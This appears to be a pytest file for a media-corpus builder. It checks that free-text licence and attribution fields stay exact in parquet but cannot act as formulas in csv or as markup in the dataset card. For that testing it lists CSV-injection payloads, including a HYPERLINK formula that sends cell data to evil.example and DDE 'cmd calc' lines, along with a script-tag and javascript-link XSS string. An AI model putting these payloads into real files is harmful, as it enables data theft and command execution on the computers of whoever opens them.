"""What a corpus says about its sources is safe to open and names nothing of the machine that built
it: free text from a source list (licences, attributions) lands exact in parquet and the samples'
json, as inert text in every csv (no spreadsheet formula) and in the dataset card (no HTML gets
through, the markdown still renders); the same build to two output folders, from two copies of
its source list, gives the same bytes."""

from __future__ import annotations

import csv
import html
import random
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from landscape_av.corpus import Corpus
from landscape_av.corpus.manifests import write_manifest
from landscape_av.csv_text import FORMULA_START, from_cell, to_cell
from landscape_av.schema import manifest_columns
from landscape_av.sources.source_list import Source, read_source_list, write_source_list

from .conftest import snapshot

CLI = [sys.executable, "-c", "from landscape_av.cli import main; main()"]
OPTIONS = ["--size", "320x180", "--min-size", "320x180", "--max-clips", "1", "--retries", "0"]
OPTIONS += ["--max-failure-rate", "1"]
FORMULAS = [  # the campaign's kinds of cell, each a formula in some spreadsheet
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted: must come back with its quote
]
CARD_TEXT = "</details><script>alert(1)</script> **bold** [x](javascript:alert(1)) | cell"


def formula_cells(path: Path) -> list[str]:
    """The cells of a csv file that a spreadsheet would evaluate."""
    with open(path, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    return [c for c in cells if c[:1] in FORMULA_START and to_cell(c) != c]


def test_a_csv_cell_is_never_a_formula_and_reads_back_exact(tmp_path: Path):
    from landscape_av.corpus.manifests import read_manifest_csv

    texts = [*FORMULAS, "'tis", "-1EXhfqLLwQ", "-0.5", "", "plain"]
    rows = [
        {c: None for c in manifest_columns("failures")}
        | {"source_id": f"s{i}", "detail": text, "url": text}
        for i, text in enumerate(texts)
    ]
    write_manifest(tmp_path, "failures", rows)
    path = tmp_path / "manifests" / "failures.csv"
    assert formula_cells(path) == []
    back = read_manifest_csv(path, "failures")
    assert back["detail"].tolist() == texts
    assert pd.read_parquet(tmp_path / "manifests" / "failures.parquet")["url"].tolist() == texts
    # a YouTube id that starts with "-" (no function, no DDE) is kept as it is, for joins
    assert "-1EXhfqLLwQ" in path.read_text()
    assert [from_cell(to_cell(t)) for t in texts] == texts


def test_a_source_list_keeps_free_text_and_writes_no_formula(tmp_path: Path):
    sources = [
        Source(f"s{i}", f"https://example.org/{i}.mp4", "raining", license=t, attribution=t)
        for i, t in enumerate(FORMULAS[:4] + [CARD_TEXT])
    ]
    path = write_source_list(sources, tmp_path / "sources.csv")
    assert formula_cells(path) == []
    back = read_source_list(path)
    assert [(s.license, s.attribution) for s in back] == [
        (s.license, s.attribution) for s in sources
    ]


@pytest.fixture(scope="module")
def hostile_builds(media_server: str, build_media: Path, tmp_path_factory: pytest.TempPathFactory):
    """The same source list, in two folders, built into a relative `corpus` and an absolute
    `.../two/corpus`: a clipped source whose licence and attribution are hostile text, a damaged
    download (a decode error names the file) and a 404 (the error names the source list row)."""
    data = bytearray((build_media / "good.mp4").read_bytes())
    third = len(data) // 3
    data[third : 2 * third] = random.Random(3).randbytes(third)
    (build_media / "damaged-text.mp4").write_bytes(bytes(data))
    base = tmp_path_factory.mktemp("text")
    rows = [
        Source(
            "good",
            f"{media_server}good2.mp4",
            "raining",
            split="train",
            license=FORMULAS[0],
            attribution=CARD_TEXT,
        ),
        Source("damaged", f"{media_server}damaged-text.mp4", "wind noise", license=FORMULAS[1]),
        Source("missing", f"{media_server}missing.mp4", "raining", license=FORMULAS[2]),
    ]
    outs = []
    for name, out in (("one", "corpus"), ("two", str(base / "two" / "corpus"))):
        (base / name).mkdir()
        listed = write_source_list(rows, base / name / "sources.csv")
        cmd = [*CLI, "build", "--source-list", str(listed), "--out", out, *OPTIONS, "--quiet"]
        proc = subprocess.run(cmd, cwd=base / name, capture_output=True, text=True, timeout=600)
        assert proc.returncode == 0, proc.stderr
        outs.append(base / name / "corpus")
    return rows, outs


@pytest.mark.slow
def test_free_text_is_exact_in_parquet_and_inert_in_csv_and_card(hostile_builds):
    rows, (out, _) = hostile_builds
    corpus = Corpus(out)
    sources = corpus.manifest("sources").set_index("source_id")
    for row in rows:
        assert (
            sources.loc[row.source_id, "license"],
            sources.loc[row.source_id, "attribution"],
        ) == (
            row.license,
            row.attribution,
        )
    meta = next(corpus.samples("train", members=("json",))).meta()
    assert (meta["license"], meta["attribution"]) == (rows[0].license, rows[0].attribution)
    for path in sorted((out / "manifests").glob("*.csv")):
        assert formula_cells(path) == [], path
    verify = subprocess.run([*CLI, "verify", str(out), "--quiet"], capture_output=True, text=True)
    assert verify.returncode == 0, verify.stdout + verify.stderr  # csv and parquet agree

    text = (out / "README.md").read_text()
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert "<script" not in rendered and 'href="javascript' not in rendered
    assert rendered.count("<details>") == rendered.count("</details>") == 1
    cells = [html.unescape(c) for c in _cells(rendered)]
    assert CARD_TEXT in cells and rows[0].license in cells  # shown as the text it is


@pytest.mark.slow
def test_the_same_build_to_two_folders_gives_the_same_bytes(hostile_builds):
    _, (one, two) = hostile_builds
    first, second = snapshot(one), snapshot(two)
    assert first == second
    failures = Corpus(one).manifest("failures").set_index("source_id")
    assert failures.loc["damaged", "reason"] == "decode_error"
    for name, data in first.items():
        for folder in (one, two, one.parent, Path.home()):
            assert str(folder).encode() not in data, (name, folder)


def _cells(rendered: str) -> list[str]:
    """The text of every table cell of rendered HTML."""
    return [re.sub(r"<[^>]+>", "", c) for c in re.findall(r"<td>(.*?)</td>", rendered, re.S)]
